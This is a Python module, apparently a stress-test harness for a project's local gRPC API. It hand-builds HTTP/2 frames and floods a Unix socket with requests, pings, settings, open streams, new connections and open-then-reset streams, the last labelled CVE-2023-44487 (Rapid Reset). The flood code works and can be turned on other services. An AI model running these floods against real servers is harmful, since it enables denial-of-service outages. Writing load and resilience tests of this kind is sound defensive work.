"""Floods of a local API by one user: HTTP/2 as bytes, faster than any client library sends it.

Each flood ends after a count, or when its time is over.
"""

import contextlib
import pathlib
import socket
import struct
import time
from collections.abc import Callable, Iterator

from agent.api.podinfo.methods import LIST, PODINFO, WATCH

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
_DATA, _HEADERS, _RST_STREAM, _SETTINGS, _PING, _WINDOW_UPDATE = 0, 1, 3, 4, 6, 8
_ACK, _END_STREAM, _END_HEADERS = 1, 1, 4
_INITIAL_WINDOW = 4
_CHUNK_BYTES = 1 << 14
# The server allows 100.
_STREAMS_AT_ONCE = 80


def frame(kind: int, flags: int, stream: int, content: bytes = b"") -> bytes:
    return struct.pack(">I", len(content))[1:] + struct.pack(">BBI", kind, flags, stream) + content


def _text(text: str) -> bytes:
    return bytes((len(text),)) + text.encode()


def _headers(method: str) -> bytes:
    """A gRPC request's, by HPACK: indexed where the static table has it, else literal."""
    return (
        b"\x83\x86"  # POST, http
        + b"\x04" + _text(f"/{PODINFO}/{method}")
        + b"\x01" + _text("localhost")
        + b"\x00" + _text("te") + _text("trailers")
        + b"\x00" + _text("content-type") + _text("application/grpc")
    )  # fmt: skip


GREETING = PREFACE + frame(_SETTINGS, 0, 0, struct.pack(">HI", _INITIAL_WINDOW, (1 << 31) - 1))
# The connection's own window, which settings do not change.
GREETING += frame(_WINDOW_UPDATE, 0, 0, struct.pack(">I", (1 << 31) - (1 << 17)))


def request(stream: int, method: str = LIST) -> bytes:
    """A whole request without fields."""
    return frame(_HEADERS, _END_HEADERS, stream, _headers(method)) + frame(
        _DATA, _END_STREAM, stream, b"\x00" * 5
    )


def opened_and_reset(stream: int) -> bytes:
    """A stream that ends before its request does (CVE-2023-44487)."""
    opening = frame(_HEADERS, _END_HEADERS, stream, _headers(WATCH))
    return opening + frame(_RST_STREAM, 0, stream, struct.pack(">I", 8))


def opened(stream: int) -> bytes:
    """A watch, which stays open."""
    return request(stream, WATCH)


def ping(stream: int) -> bytes:
    return frame(_PING, 0, 0, struct.pack(">Q", stream))


def settings(stream: int) -> bytes:
    return frame(_SETTINGS, 0, 0)


FLOODS: dict[str, Callable[[int], bytes]] = {
    "requests": request,
    "resets": opened_and_reset,
    "streams": opened,
    "pings": ping,
    "settings": settings,
}


class Flood:
    """Sends as fast as the server reads, and as many streams at once as it allows."""

    def __init__(self, path: pathlib.Path, make: Callable[[int], bytes]) -> None:
        """make: what to send on each stream."""
        self.sent = 0
        self.answered = 0
        """Streams that the server has ended."""
        self.connections = 0
        self.is_stopped = False
        self._path = path
        self._make = make
        self._has_answers = make in (request, opened)
        self._received = b""

    def run(self, *, count: int, seconds: float) -> None:
        """Up to `count` messages within `seconds`, on one connection after the other.

        Requests are waited for.
        """
        deadline = time.monotonic() + seconds
        while self._goes_on(count, deadline):
            with contextlib.suppress(OSError), _connected(self._path) as flooding:
                self.connections += 1
                flooding.sendall(GREETING)
                flooding.setblocking(False)
                self._send(flooding, count, deadline)

    def _goes_on(self, count: int, deadline: float) -> bool:
        is_done = self.sent >= count and (self._make is not request or self.answered >= self.sent)
        return not is_done and not self.is_stopped and time.monotonic() < deadline

    def _send(self, flooding: socket.socket, count: int, deadline: float) -> None:
        stream, unsent = 1, b""
        began = self.sent - self.answered
        self._received = b""
        while self._goes_on(count, deadline):
            under_way = self.sent - self.answered - began
            while (
                self.sent < count
                and len(unsent) < _CHUNK_BYTES
                and not (self._has_answers and under_way >= _STREAMS_AT_ONCE)
            ):
                unsent += self._make(stream)
                stream += 2
                self.sent += 1
                under_way += 1
            is_idle = True
            with contextlib.suppress(BlockingIOError):
                if unsent:
                    unsent = unsent[flooding.send(unsent) :]
                    is_idle = False
            with contextlib.suppress(BlockingIOError):
                received = flooding.recv(1 << 18)
                if not received:
                    return
                unsent += self._read(received)
                is_idle = False
            if is_idle:
                time.sleep(0.001)

    def _read(self, received: bytes) -> bytes:
        """Count what has ended; returns what the protocol requires in response."""
        self._received += received
        response = b""
        while len(self._received) >= 9:
            length = int.from_bytes(self._received[:3])
            if len(self._received) < 9 + length:
                break
            kind, flags = self._received[3], self._received[4]
            self.answered += kind == _RST_STREAM or (kind == _HEADERS and flags & _END_STREAM)
            if kind in (_SETTINGS, _PING) and not flags & _ACK:
                content = self._received[9 : 9 + length] if kind == _PING else b""
                response += frame(kind, _ACK, 0, content)
            self._received = self._received[9 + length :]
        return response


class Connections:
    """Opens and closes connections."""

    def __init__(self, path: pathlib.Path) -> None:
        self.made = 0
        self.is_stopped = False
        self._path = path

    def run(self, *, count: int, seconds: float) -> None:
        """Up to `count` within `seconds`."""
        deadline = time.monotonic() + seconds
        while self.made < count and time.monotonic() < deadline and not self.is_stopped:
            with contextlib.suppress(OSError), _connected(self._path) as connection:
                self.made += 1
                connection.sendall(GREETING)


@contextlib.contextmanager
def _connected(path: pathlib.Path) -> Iterator[socket.socket]:
    with socket.socket(socket.AF_UNIX) as connection:
        connection.settimeout(5)
        connection.connect(str(path))
        yield connection
